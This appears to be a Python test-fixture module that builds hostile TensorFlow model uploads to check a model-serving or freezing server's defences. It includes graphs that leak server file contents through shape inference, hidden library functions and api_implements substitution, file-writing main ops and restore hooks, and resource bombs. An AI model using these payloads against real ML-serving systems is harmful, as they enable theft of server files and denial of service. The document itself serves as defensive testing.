"""Hostile uploads, built by TensorFlow in the test: graphs whose outputs would read
or write server files if the server imported or ran them. Each builder saves a
normal Saver checkpoint (a variable, a placeholder) so only the ops are hostile."""

from __future__ import annotations

import os

import numpy as np
import tensorflow as tf

tf1 = tf.compat.v1


def _saved(directory: str, build) -> str:
    os.makedirs(directory, exist_ok=True)
    graph = tf.Graph()
    with graph.as_default():
        x = tf1.placeholder(tf.float32, [None], name="x")
        w = tf1.get_variable("w", initializer=np.float32(2.0), use_resource=True)
        build(x, w)
        saver = tf1.train.Saver()
        with tf1.Session(graph=graph) as sess:
            sess.run(tf1.global_variables_initializer())
            saver.save(sess, os.path.join(directory, "model.ckpt"))
    return directory


def shape_leak(directory: str, secret: str) -> str:
    """Output shape = the first 4 bytes of a server file (shape inference evaluates it)."""
    def build(x, w):
        raw = tf.io.decode_raw(tf.strings.substr(tf.io.read_file(secret), 0, 4), tf.uint8)
        tf.fill(tf.cast(raw, tf.int32), w, name="out")
    return _saved(directory, build)


def number_leak(directory: str, secret: str) -> str:
    """A dimension = a number written in a server file."""
    def build(x, w):
        n = tf.strings.to_number(tf.strings.strip(tf.io.read_file(secret)), tf.int32)
        tf.fill(tf.reshape(n, [1]), w * tf.reduce_sum(x), name="out")
    return _saved(directory, build)


def leak_in_function(directory: str, secret: str) -> str:
    """The file read hides in a library function (a PartitionedCall)."""
    @tf.function(autograph=False)
    def length(path):
        return tf.strings.length(tf.io.read_file(path))

    def build(x, w):
        n = length(tf.constant(secret))
        tf.multiply(x * w, tf.cast(n, tf.float32), name="out")
    return _saved(directory, build)


def leak_in_loop(directory: str, secret: str) -> str:
    """The file read is in a control-flow-v2 while loop body."""
    def build(x, w):
        def body(i, acc):
            return i + 1, acc + tf.cast(tf.strings.length(tf.io.read_file(secret)), tf.float32)
        _, acc = tf.while_loop(lambda i, acc: i < 2, body, [tf.constant(0), tf.constant(0.0)])
        tf.multiply(x * w, acc, name="out")
    return _saved(directory, build)


def glob_leak(directory: str, pattern: str) -> str:
    """Output shape = how many server files match a pattern."""
    def build(x, w):
        n = tf.size(tf.io.matching_files(pattern))
        tf.fill(tf.reshape(n, [1]), w, name="out")
    return _saved(directory, build)


def write_on_run(directory: str, target: str) -> str:
    """The output waits on a WriteFile (control dependency)."""
    def build(x, w):
        with tf.control_dependencies([tf.io.write_file(target, "written by an upload")]):
            tf.multiply(x, w, name="out")
    return _saved(directory, build)


def print_to_file(directory: str, target: str) -> str:
    """The output waits on a PrintV2 whose output_stream is a file."""
    def build(x, w):
        with tf.control_dependencies([tf.print(x, output_stream="file://" + target)]):
            tf.multiply(x, w, name="out")
    return _saved(directory, build)


class _Writer(tf.saved_model.experimental.TrackableResource):
    """A resource whose initializer (run by tf.saved_model.load) writes a file."""

    def __init__(self, target: str):
        self._target = target
        super().__init__()

    def _create_resource(self):
        return tf.raw_ops.VarHandleOp(dtype=tf.float32, shape=[], shared_name="")

    def _initialize(self):
        tf.io.write_file(self._target, "written by an upload")
        return tf.raw_ops.AssignVariableOp(resource=self.resource_handle, value=1.0)


class _WriterModule(tf.Module):
    def __init__(self, target: str):
        super().__init__()
        self.res = _Writer(target)

    @tf.function(input_signature=[tf.TensorSpec([None], tf.float32)])
    def serve(self, x):
        return {"y": x * tf.raw_ops.ReadVariableOp(resource=self.res.resource_handle, dtype=tf.float32)}


def saved_model_writer(directory: str, target: str) -> str:
    """A TF2 SavedModel whose resource initializer writes ``target`` when loaded."""
    module = _WriterModule(target)
    tf.saved_model.save(module, directory, signatures={"serving_default": module.serve})
    if os.path.exists(target):
        os.unlink(target)  # saving ran the initializer once, here in the test
    return directory


LEAKS = {"shape_leak": shape_leak, "number_leak": number_leak, "leak_in_function": leak_in_function,
         "leak_in_loop": leak_in_loop}


def index_bomb(directory: str, elements: int = 1 << 27) -> str:
    """A normal model whose checkpoint index also declares a huge string tensor, of
    which one element is stored: a few bytes of data, a shape of ``elements``."""
    import models

    model = models.dense(directory, True)
    prefix = os.path.join(directory, model.prefix)
    reader = tf.train.load_checkpoint(prefix)
    keys = sorted(reader.get_variable_to_shape_map())
    tensors = [tf.constant(reader.get_tensor(k)) for k in keys]
    for name in os.listdir(directory):
        if name.startswith(model.prefix + ".data-") or name == model.prefix + ".index":
            os.unlink(os.path.join(directory, name))
    tf.raw_ops.SaveV2(prefix=prefix, tensor_names=keys + ["bomb"],
                      shape_and_slices=[""] * len(keys) + ["%d 0,1" % elements],
                      tensors=tensors + [tf.constant(["x"])])
    return directory


def wide_graph(directory: str, nodes: int, chain: bool = False) -> str:
    """A normal model plus ``nodes`` Identity nodes: all sinks (or one long chain)."""
    import models

    models.dense(directory, True)

    def edit(meta):
        prev = "y"
        for i in range(nodes):
            n = meta.graph_def.node.add(name="s%d" % i, op="Identity")
            n.attr["T"].type = 1
            n.input.append(prev)
            if chain:
                prev = n.name
    models.edit_meta(directory, edit)
    return directory


def recursive_function(directory: str) -> str:
    """A model whose output goes through a library function that calls itself."""
    import models
    from tensorflow.core.framework import function_pb2

    models.dense(directory, True)

    def edit(meta):
        f = function_pb2.FunctionDef()
        f.signature.name = "again"
        f.signature.input_arg.add(name="a", type=1)
        f.signature.output_arg.add(name="b", type=1)
        call = f.node_def.add(name="call", op="again")
        call.input.append("a")
        f.ret["b"] = "call:b:0"
        meta.graph_def.library.function.append(f)
        out = meta.graph_def.node.add(name="looped", op="again")
        out.input.append("y")
    models.edit_meta(directory, edit)
    return directory


# -- loader paths (issue: every loader path is checked before it runs) --------------
def _writer_nodes(target: str, glob: str = ""):
    """Top-level nodes that write ``target`` (and copy what ``glob`` matches into it) when
    run, grouped under a NoOp named evil/main_op; returns the nodes."""
    graph = tf.Graph()
    with graph.as_default(), tf1.name_scope("evil"):
        data = tf.constant("written by an upload")
        if glob:
            data = tf.strings.reduce_join(tf.map_fn(tf.io.read_file, tf.io.matching_files(glob),
                                                    fn_output_signature=tf.string))
        tf.group(tf.io.write_file(target, data), name="main_op")
    return list(graph.as_graph_def().node), list(graph.as_graph_def().library.function)


def _plant_main_op(meta, target: str, glob: str = "") -> None:
    nodes, functions = _writer_nodes(target, glob)
    meta.graph_def.node.extend(nodes)
    meta.graph_def.library.function.extend(functions)
    for key in ("saved_model_main_op", "legacy_init_op"):
        meta.collection_def[key].node_list.value[:] = ["evil/main_op"]


def mixed_saved_model(directory: str, target: str, glob: str = "") -> str:
    """Finding 1: a TF2 SavedModel (object graph) given a second MetaGraph, so that
    tf.saved_model.load takes its TF1 path, which runs the main op planted in the
    serve MetaGraph: it writes ``target`` (with the files ``glob`` matches)."""
    import models

    models.saved_model_v2(directory)

    def edit(sm):
        _plant_main_op(sm.meta_graphs[0], target, glob)
        extra = sm.meta_graphs.add()
        extra.CopyFrom(sm.meta_graphs[0])
        extra.ClearField("object_graph_def")
        extra.meta_info_def.ClearField("tags")
        extra.meta_info_def.tags.append("train")
    models.edit_saved_model(directory, edit)
    return directory


def tf2_saved_model_with_main_op(directory: str, target: str) -> str:
    """A TF2 SavedModel (one MetaGraph, object graph) whose top level holds a planted
    main op: TensorFlow's TF2 loader would not run it, and the server refuses it anyway."""
    import models

    models.saved_model_v2(directory)
    models.edit_saved_model(directory, lambda sm: _plant_main_op(sm.meta_graphs[0], target))
    return directory


def tf1_saved_model_with_main_op(directory: str, target: str) -> str:
    """A TF1 SavedModel whose main op writes ``target``: read as data, it is never run."""
    import models

    models.saved_model_v1(directory)
    models.edit_saved_model(directory, lambda sm: _plant_main_op(sm.meta_graphs[0], target))
    return directory


def graph_file_writer(directory: str, target: str) -> str:
    """A Saver checkpoint without its .meta, and a separate graph file (graph_path) whose
    output waits on a WriteFile."""
    from tensorflow.core.protobuf import meta_graph_pb2

    write_on_run(directory, target)
    meta = meta_graph_pb2.MetaGraphDef()
    with open(os.path.join(directory, "model.ckpt.meta"), "rb") as fh:
        meta.ParseFromString(fh.read())
    os.unlink(os.path.join(directory, "model.ckpt.meta"))
    with open(os.path.join(directory, "graph.pb"), "wb") as fh:
        fh.write(meta.graph_def.SerializeToString())
    return directory


def restore_writer(directory: str, target: str) -> str:
    """A Saver checkpoint whose restore op waits on a WriteFile (TF's own freeze_graph
    runs it): read as data, the restore op is never run."""
    import models

    def build(x, w):
        tf.multiply(x, w, name="out")

    _saved(directory, build)

    def edit(meta):
        nodes, _ = _writer_nodes(target)
        meta.graph_def.node.extend(nodes)
        restore = meta.saver_def.restore_op_name
        next(n for n in meta.graph_def.node if n.name == restore).input.append("^evil/main_op")
    models.edit_meta(directory, edit)
    return directory


# -- workers held and memory ------------------------------------------------------
def dequeue_forever(directory: str) -> str:
    """Finding 5: the output waits on a dequeue from a queue nobody fills."""
    def build(x, w):
        q = tf1.FIFOQueue(1, [tf.float32], shapes=[[]])
        tf.multiply(x * w, q.dequeue(), name="out")
    return _saved(directory, build)


def slow_loop(directory: str, iterations: int = 1 << 40) -> str:
    """A while loop of allowed ops that runs for hours: only a time limit stops it."""
    def build(x, w):
        _, acc = tf.while_loop(lambda i, a: i < iterations, lambda i, a: (i + 1, a + 1.0),
                               [tf.constant(0, tf.int64), tf.reduce_sum(x)])
        tf.multiply(w, acc, name="out")
    return _saved(directory, build)


def fill_bomb(directory: str, side: int = 30000) -> str:
    """Finding 6: Fill of a large constant shape, reduced to a scalar that sizes another
    Fill: TensorFlow builds the first while importing the graph (shape inference)."""
    def build(x, w):
        big = tf.fill([side, side], 1.0)
        n = tf.cast(tf.reduce_sum(big) / float(side * side), tf.int32)
        tf.multiply(x * w, tf.reduce_sum(tf.fill(tf.reshape(n, [1]), 1.0)), name="out")
    return _saved(directory, build)


# -- functions TensorFlow could run that no node calls (issue 32, finding 2) ---------------
FAMILY = "tffreeze_test_family"
HIDDEN = "leak_file_length"  # the name TensorFlow gives the hidden function contains this


def _family(secret: str, family: bool = True):
    """(called, hidden) concrete functions of x[None] float32. ``called`` multiplies by 1
    and declares api_implements FAMILY, preferring a GPU; ``hidden`` adds the length of
    the file ``secret`` and, with ``family``, declares the same api_implements, preferring
    the CPU: grappler's implementation selector then runs it in place of ``called``."""
    spec = tf.TensorSpec([None], tf.float32)

    def times_one(v):
        return v * 1.0

    def leak_file_length(v):
        return v + tf.cast(tf.strings.length(tf.io.read_file(secret)), tf.float32)

    called = tf.function(times_one, autograph=False, experimental_attributes={
        "api_implements": FAMILY, "api_preferred_device": "GPU"}).get_concrete_function(spec)
    attributes = {"api_implements": FAMILY, "api_preferred_device": "CPU"} if family else None
    hidden = tf.function(leak_file_length, autograph=False,
                         experimental_attributes=attributes).get_concrete_function(spec)
    return called, hidden


def uncalled_implementation(directory: str, secret: str) -> str:
    """A Saver checkpoint whose output calls a function of an api_implements family; the
    family's other member, in the library but called by no node, reads ``secret``.
    TensorFlow's session runs that one instead (verify used to run the original graph)."""
    def build(x, w):
        called, hidden = _family(secret)
        hidden.add_to_graph(tf1.get_default_graph())
        tf.add(called(x * w) * 2.0, 1.0, name="out")
    return _saved(directory, build)


def legit_family(directory: str) -> str:
    """A Saver checkpoint whose output calls a function of an api_implements family with
    two safe members (as Keras's LSTM has, CPU and GPU): it freezes and verifies."""
    spec = tf.TensorSpec([None], tf.float32)

    def build(x, w):
        fast = tf.function(lambda v: v * 3.0, autograph=False, experimental_attributes={
            "api_implements": FAMILY, "api_preferred_device": "GPU"}).get_concrete_function(spec)
        slow = tf.function(lambda v: v + v + v, autograph=False, experimental_attributes={
            "api_implements": FAMILY, "api_preferred_device": "CPU"}).get_concrete_function(spec)
        slow.add_to_graph(tf1.get_default_graph())
        tf.add(fast(x * w), 1.0, name="out")
    return _saved(directory, build)


def _add_function(graph_def, function_def) -> str:
    graph_def.library.function.add().CopyFrom(function_def)
    return function_def.signature.name


def attribute_named_function(directory: str, secret: str) -> str:
    """A Saver checkpoint whose output node (a Mul, no call op) carries a function-valued
    attribute naming a library function that reads ``secret``; nothing calls it."""
    _saved(directory, lambda x, w: tf.multiply(x, w, name="out"))
    _, hidden = _family(secret, family=False)

    def edit(meta):
        name = _add_function(meta.graph_def, hidden.function_def)
        out = next(n for n in meta.graph_def.node if n.name == "out")
        out.attr["_hook"].func.name = name
    import models

    models.edit_meta(directory, edit)
    return directory


def nested_list_function(directory: str, secret: str) -> str:
    """A Saver checkpoint whose output node carries a list of functions; the function that
    reads ``secret`` is named only as an attribute of an entry of that list."""
    _saved(directory, lambda x, w: tf.multiply(x, w, name="out"))
    called, hidden = _family(secret, family=False)

    def edit(meta):
        outer = _add_function(meta.graph_def, called.function_def)
        inner = _add_function(meta.graph_def, hidden.function_def)
        out = next(n for n in meta.graph_def.node if n.name == "out")
        entry = out.attr["_hooks"].list.func.add(name=outer)
        entry.attr["then"].list.func.add(name=inner)
    import models

    models.edit_meta(directory, edit)
    return directory


class _CallsFamily(tf.Module):
    def __init__(self, called):
        super().__init__()
        self.w = tf.Variable(2.0)
        self._called = called

    @tf.function(input_signature=[tf.TensorSpec([None], tf.float32)], autograph=False)
    def serve(self, x):
        return {"y": self._called(x * self.w) * 2.0 + 1.0}


def restore_only_function(directory: str, secret: str, family: bool = True) -> str:
    """A TF2 SavedModel whose serving function calls a function of an api_implements family;
    a function that reads ``secret`` is added to the library and called only from the
    saver's restore function. With ``family`` it declares the same api_implements,
    preferring the CPU (TensorFlow ran it in place of the called one while loading)."""
    from tensorflow.core.framework import types_pb2

    called, hidden = _family(secret, family)
    module = _CallsFamily(called)
    tf.saved_model.save(module, directory, signatures={"serving_default": module.serve})

    def edit(sm):
        meta = sm.meta_graphs[0]
        name = _add_function(meta.graph_def, hidden.function_def)
        restore_node = meta.saver_def.restore_op_name.split(":")[0]
        restore = next(n for n in meta.graph_def.node if n.name == restore_node).attr["f"].func.name
        body = next(f for f in meta.graph_def.library.function if f.signature.name == restore)
        arg = body.node_def.add(name="leak_arg", op="Const")
        arg.attr["dtype"].type = types_pb2.DT_FLOAT
        arg.attr["value"].tensor.CopyFrom(tf.make_tensor_proto([1.0], tf.float32))
        call = body.node_def.add(name="leak_call", op="PartitionedCall", input=["leak_arg:output:0"])
        call.attr["f"].func.name = name
        call.attr["Tin"].list.type.append(types_pb2.DT_FLOAT)
        call.attr["Tout"].list.type.append(types_pb2.DT_FLOAT)
        body.signature.control_output.append("leak")
        body.control_ret["leak"] = "leak_call"
    import models

    models.edit_saved_model(directory, edit)
    return directory
